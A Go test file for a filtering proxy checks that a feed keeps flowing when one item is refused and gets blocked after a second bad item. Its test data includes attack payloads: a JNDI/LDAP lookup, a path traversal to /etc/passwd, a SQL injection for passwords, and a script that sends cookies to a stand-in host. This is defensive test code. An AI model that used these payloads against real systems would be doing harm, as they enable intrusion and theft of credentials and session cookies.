package proxy_test

import (
	"net/http"
	"strings"
	"testing"

	"bartizan/internal/policy"
	"bartizan/internal/signal"
)

// A feed whose one item is refused goes on with everything else over real sockets, however
// often it sends that item again and without a pause; a second item ends it.
func TestFeedGoesOn(t *testing.T) {
	u := newRaw(t, nil)
	s := interrogating(u.url, policy.Enforce)
	g := proxyFront{}.start(t, setup{upstreams: s.upstreams, mode: s.mode, engine: s.engine, policy: func(o *policy.Options) {
		s.policy(o)
		o.Thresholds = policy.Thresholds{Watch: 5, Interrogate: 30, Tarpit: 60, Block: 85}
	}})
	push := func(body string) int {
		req, err := http.NewRequest("POST", "http://"+g.plain+"/ingest", strings.NewReader(body))
		if err != nil {
			t.Fatal(err)
		}
		req.Header.Set("Content-Type", "application/json")
		req.Header.Set("User-Agent", "shipper/2.9")
		res, err := client(t, "http1").Do(req)
		read(t, res, err)
		return res.StatusCode
	}
	const good, bad = `{"line":"GET /health 200"}`, `{"name":"${jndi:ldap://e.example.test/a}","file":"../../../../etc/passwd","q":"x' UNION SELECT password FROM users--"}`
	for i := range 40 {
		if got := push(bad); got != 403 {
			t.Fatalf("round %d: the item: got %d; want 403", i, got)
		}
		if got := push(good); got != 200 {
			t.Fatalf("round %d: another item: got %d; want 200", i, got)
		}
	}
	push(`{"name":"<script>fetch('//e.example.test/'+document.cookie)</script>"}`)
	eventually(t, "a block", func() bool {
		push(good)
		l := g.lines(t, 82)
		return l[len(l)-1].verdict.Action == signal.BlockAction
	})
}
